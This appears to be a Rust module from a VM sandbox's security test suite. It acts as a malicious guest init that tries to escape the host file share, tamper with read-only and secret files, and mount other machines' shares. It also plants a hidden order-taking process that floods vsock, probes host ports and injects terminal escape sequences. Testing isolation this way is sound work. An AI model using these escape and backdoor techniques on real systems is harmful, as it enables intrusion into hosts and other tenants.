//! The first process of a machine whose kernel is the attacker's: it tries the share with all rights, leaves a process with all
//! rights behind that takes orders, and then lets the real init go on, which finds nothing of this.
//!
//! The real init is at the end of this program's file, and behind it its length.

use std::fs::{self, OpenOptions};
use std::io::{self, Write};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt};
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::thread;
use std::time::Duration;

use nix::libc;
use serde_json::Value;

use crate::files::{self, path};
use crate::report::{Report, called};
use crate::vsock;

/// Where the share is until init mounts it, and where the process that stays keeps it.
const SHARE: &str = "/share";
/// A file system of the machine's own, for the same attempts.
const OWN: &str = "/own";
/// The project, in which the host leaves orders and finds what came of them.
const PROJECT: &str = "/share/workspace";

/// The same through init, once it has the share.
const LATER: &str = "/proc/1/root/workspace";

/// What a name is looked up by, at most: the share's server numbers files one after the other.
const HANDLES: u64 = 300;

pub(crate) fn run() -> ! {
    for (kind, at) in [("devtmpfs", "/dev"), ("proc", "/proc"), ("sysfs", "/sys"), ("tmpfs", OWN)] {
        let _ = fs::create_dir_all(at);
        mount(kind, at, kind, 0, "").expect(at);
    }
    let spec: Value = serde_json::from_slice(&fs::read("/agent/spec.json").expect("a spec")).expect("JSON");
    for module in spec["machine"]["modules"].as_array().into_iter().flatten().filter_map(Value::as_str) {
        load(module);
    }
    fs::create_dir_all(SHARE).expect("a folder");
    let root = &spec["machine"]["root"];
    let (kind, tag) = (root["kind"].as_str().unwrap_or_default(), root["tag"].as_str().unwrap_or_default());
    let options = if kind == "9p" { "trans=virtio,version=9p2000.L,msize=512000" } else { "" };
    // The device may show up a moment after its driver.
    while mount(tag, SHARE, kind, 0, options).is_err() {
        thread::sleep(Duration::from_millis(10));
    }
    let targets = fs::read_to_string(format!("{PROJECT}/targets")).unwrap_or_default();
    let (marker, targets) = targets.split_once('\n').unwrap_or_default();
    let targets: Vec<String> = targets.lines().map(str::to_owned).collect();
    attempt(&spec, marker, &targets);

    leave_one_behind(&targets);
    for at in [SHARE, OWN, "/dev", "/sys", "/proc"] {
        unsafe { libc::umount2(path(at).as_ptr(), libc::MNT_DETACH) };
    }
    for at in [SHARE, OWN] {
        let _ = fs::remove_dir(at);
    }
    become_init()
}

/// A process with processes and devices, and nothing of the share: a machine can use that once only, and init is to have it.
fn leave_one_behind(targets: &[String]) {
    let (mut ours, theirs) = UnixStream::pair().expect("a line");
    if unsafe { libc::fork() } != 0 {
        drop(theirs);
        let _ = io::Read::read(&mut ours, &mut [0]);
        return;
    }
    unsafe { libc::unshare(libc::CLONE_NEWNS) };
    for at in [SHARE, OWN, "/dev", "/sys", "/proc"] {
        unsafe { libc::umount2(path(at).as_ptr(), 0) };
    }
    let _ = fs::create_dir("/stay");
    mount("tmpfs", "/stay", "tmpfs", 0, "").expect("a root folder");
    for (kind, at) in [("devtmpfs", "/stay/dev"), ("proc", "/stay/proc")] {
        let _ = fs::create_dir(at);
        mount(kind, at, kind, 0, "").expect(at);
    }
    std::env::set_current_dir("/stay").expect("a root folder");
    // Init removes all that is in the first file system, and with a folder goes what is mounted on it.
    mount(".", "/", "none", libc::MS_MOVE, "").expect("a root folder");
    unsafe { libc::chroot(c".".as_ptr()) };
    drop((ours, theirs));
    stay(targets)
}

fn attempt(spec: &Value, marker: &str, targets: &[String]) {
    let project = Path::new(PROJECT);
    Report::to_file(&project.join("control"), |report| files::attempt_all(Path::new(OWN), report));
    Report::to_file(&project.join("root"), |report| {
        for folder in ["workspace", "home/sandbox", "tmp"] {
            files::attempt_all(&Path::new(SHARE).join(folder).join("attempts"), report);
        }
    });
    let litter = project.join("litter");
    Report::to_file(&project.join("beyond"), |report| {
        report.tell("making a mess", files::litter(&litter, targets).map(|()| String::new()));
        report.tell("the marker through links", files::find(&litter, marker));
        report.tell("the marker by handles", by_handles(marker));
        report.tell("a folder above the share by handles", above());
        for (name, done) in beyond() {
            report.tell(&format!("beyond: {name}"), done);
        }
        report.tell("other machines' tags", other_tags(spec));
    });
}

/// Writing to what is read-only, and to the root folder, where the attacker's kernel does not mind.
fn beyond() -> Vec<(String, io::Result<String>)> {
    let share = Path::new(SHARE);
    let _ = mount("none", SHARE, "none", libc::MS_REMOUNT, "");
    let mut tried = Vec::new();
    for folder in ["", "usr", "etc", "opt", "opt/given", "run", "run/secrets", "proc", "dev", "home"] {
        let at = share.join(folder);
        tried.push((
            format!("a file in /{folder}"),
            fs::write(at.join("intruder"), "x").map(|()| String::new()),
        ));
        tried.push((
            format!("a folder in /{folder}"),
            fs::create_dir(at.join("intruding")).map(|()| String::new()),
        ));
        let chmod = fs::metadata(&at).and_then(|found| {
            let mode = found.permissions().mode() & 0o7777;
            fs::set_permissions(&at, PermissionsExt::from_mode(mode ^ 0o001))
        });
        tried.push((format!("the mode of /{folder}"), chmod.map(|()| String::new())));
    }
    for file in ["etc/passwd", "opt/given/file", "run/secrets/KEY", "usr/bin/env"] {
        let at = share.join(file);
        let append = OpenOptions::new().append(true).open(&at).and_then(|mut file| file.write_all(b"x"));
        tried.push((format!("writing to /{file}"), append.map(|()| String::new())));
        let cut = unsafe { libc::truncate(path(&at).as_ptr(), 0) };
        tried.push((format!("cutting /{file}"), called(cut)));
        tried.push((format!("removing /{file}"), fs::remove_file(&at).map(|()| String::new())));
        let gone = share.join("workspace/stolen");
        tried.push((format!("moving /{file}"), fs::rename(&at, &gone).map(|()| String::new())));
        tried.push((format!("a second name for /{file}"), fs::hard_link(&at, &gone).map(|()| String::new())));
        let times = unsafe { libc::utimes(path(&at).as_ptr(), std::ptr::null()) };
        tried.push((format!("the times of /{file}"), called(times)));
        let give = std::os::unix::fs::lchown(&at, Some(1000), Some(1000)).and_then(|()| {
            Err::<String, _>(io::Error::other(format!("it is {}'s", fs::metadata(&at)?.uid())))
        });
        tried.push((format!("the owner of /{file}"), give));
    }
    tried
}

/// Everything that the share's server knows under any number.
fn by_handles(marker: &str) -> io::Result<String> {
    let mut found = Vec::new();
    for number in 1..HANDLES {
        let Ok(fd) = open_handle(number, libc::O_RDONLY | libc::O_NONBLOCK) else { continue };
        let mut content = Vec::new();
        let _ = io::Read::read_to_end(&mut io::Read::take(fs::File::from(fd), 1 << 16), &mut content);
        if !marker.is_empty() && content.windows(marker.len()).any(|piece| piece == marker.as_bytes()) {
            found.push(number.to_string());
        }
    }
    if found.is_empty() { Err(io::Error::other("it is nowhere")) } else { Ok(found.join(" ")) }
}

/// The kernel asks for `..` only where it has forgotten what is above.
fn above() -> io::Result<String> {
    let root = fs::metadata(SHARE)?;
    for number in 1..HANDLES {
        let _ = fs::write("/proc/sys/vm/drop_caches", "2");
        let Ok(fd) = open_handle(number, libc::O_RDONLY | libc::O_DIRECTORY) else { continue };
        let own = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&fd));
        for levels in 1..12 {
            let at = PathBuf::from(&own).join("../".repeat(levels));
            let Ok(found) = fs::metadata(&at) else { break };
            // The share's own root is the machine's mount point; beyond that is what is in memory here.
            if found.dev() == root.dev() && at.join("tree").exists() {
                return Ok(format!("{} from {number}", at.display()));
            }
        }
    }
    Err(io::Error::other("there is none"))
}

fn open_handle(number: u64, flags: i32) -> io::Result<std::os::fd::OwnedFd> {
    // Size, type (`FILEID_INO64_GEN` and fuse's own), number, generation.
    let share = fs::File::open(SHARE)?;
    for kind in [0x81_u32, 1] {
        let mut handle = [12_u32, kind, (number >> 32) as u32, number as u32, 0];
        let fd = unsafe {
            libc::syscall(
                libc::SYS_open_by_handle_at,
                std::os::fd::AsRawFd::as_raw_fd(&share),
                handle.as_mut_ptr(),
                flags | libc::O_CLOEXEC,
            )
        };
        if fd >= 0 {
            return Ok(unsafe { std::os::fd::FromRawFd::from_raw_fd(fd as i32) });
        }
    }
    Err(io::Error::last_os_error())
}

fn other_tags(spec: &Value) -> io::Result<String> {
    let kind = spec["machine"]["root"]["kind"].as_str().unwrap_or_default();
    let options = if kind == "9p" { "trans=virtio,version=9p2000.L" } else { "" };
    fs::create_dir_all("/other")?;
    for tag in ["share", "host", "work", "home", "store", "0", "myfs"] {
        if mount(tag, "/other", kind, 0, options).is_ok() {
            return Ok(tag.to_owned());
        }
    }
    Err(io::Error::other("there is no other"))
}

/// Does what files in the project say, each in a process of its own, until the machine ends.
fn stay(targets: &[String]) -> ! {
    let orders = Path::new(LATER).join("orders");
    loop {
        for entry in fs::read_dir(&orders).into_iter().flatten().flatten() {
            let order = entry.file_name().to_string_lossy().into_owned();
            let text = fs::read_to_string(entry.path()).unwrap_or_default();
            if fs::remove_file(entry.path()).is_ok() && unsafe { libc::fork() } == 0 {
                let done = obey(&order, &text, targets);
                Report::to_file(&Path::new(LATER).join(format!("{order}-done")), |report| {
                    report.tell(&order, done);
                });
                std::process::exit(0);
            }
        }
        thread::sleep(Duration::from_millis(50));
    }
}

fn obey(order: &str, text: &str, targets: &[String]) -> io::Result<String> {
    match order {
        "flip" => files::flip(Path::new(LATER), targets),
        "flood" => vsock::flood(1024),
        "call" => {
            let ports = text.split_whitespace().filter_map(|port| port.parse().ok());
            vsock::host(ports.chain([1, 22, 80, 1024, 1025, 2375]))
        }
        // Whatever the text says, to where init reports to the host.
        "say" => serial("/dev/ttyS1", text.as_bytes()),
        "print" => serial("/dev/ttyS0", text.as_bytes()),
        "chatter" => loop {
            serial("/dev/ttyS1", &[b'x'; 8 * 1024])?;
            serial("/dev/ttyS0", "\u{1b}[2J\u{1b}]0;taken\u{7}".repeat(1024).as_bytes())?;
        },
        other => Err(io::Error::other(format!("no such order: {other}"))),
    }
}

fn serial(at: &str, bytes: &[u8]) -> io::Result<String> {
    let mut line = OpenOptions::new().write(true).custom_flags(libc::O_NOCTTY).open(at)?;
    line.write_all(bytes)?;
    Ok(String::new())
}

fn become_init() -> ! {
    let own = fs::read("/init").expect("our own file");
    let (rest, length) = own.split_last_chunk().expect("a length");
    let init = &rest[rest.len() - u64::from_le_bytes(*length) as usize..];
    fs::remove_file("/init").expect("our own file");
    fs::write("/init", init).expect("init");
    fs::set_permissions("/init", PermissionsExt::from_mode(0o755)).expect("init");
    panic!("{}", Command::new("/init").exec())
}

fn load(module: &str) {
    let Ok(file) = fs::File::open(module) else { return };
    let fd = std::os::fd::AsRawFd::as_raw_fd(&file);
    unsafe { libc::syscall(libc::SYS_finit_module, fd, c"".as_ptr(), 0) };
}

fn mount(what: &str, at: &str, kind: &str, flags: u64, options: &str) -> io::Result<()> {
    let [what, at, kind, options] = [what, at, kind, options].map(path);
    let done =
        unsafe { libc::mount(what.as_ptr(), at.as_ptr(), kind.as_ptr(), flags, options.as_ptr().cast()) };
    called(done).map(drop)
}
